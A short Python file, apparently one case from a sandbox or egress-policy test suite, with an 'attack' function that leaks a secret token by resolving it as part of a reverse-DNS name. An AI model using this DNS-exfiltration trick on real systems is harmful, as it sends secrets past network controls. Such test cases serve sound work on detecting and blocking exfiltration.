"""A reverse look-up
Asks for the name of an address that spells the secret.
policy: allowed-names
audit: dnsQuery
proof: arrival
"""
import socket


def attack(at):
    return bool(socket.getaddrinfo(at.token.decode() + '.in-addr.arpa.', 80))
